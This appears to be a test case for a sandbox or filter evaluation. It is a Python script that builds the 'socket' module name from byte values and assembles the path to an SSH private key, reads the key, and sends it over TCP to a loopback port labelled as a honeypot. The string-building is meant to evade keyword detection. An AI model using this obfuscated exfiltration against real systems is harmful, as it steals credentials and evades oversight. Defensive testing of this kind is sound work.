# family: injection
# filterfamily: string-building
# tries: build the network module's name and the loopback address from byte values, then send the SSH key to the TCP honeypot
# source: none
# exfil: yes
import pkgutil
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
net = pkgutil.resolve_name(bytes([115, 111, 99, 107, 101, 116]).decode())
addr = ".".join(str(n) for n in (127, 0, 0, 1))
key = open("/".join([home, "." + "s" * 2 + "h", "id" + "_ed25519"])).read()
s = net.SocketType(net.AF_INET, net.SOCK_STREAM)
s.connect((addr, int(tcp)))
s.sendall(key.encode())
s.close()
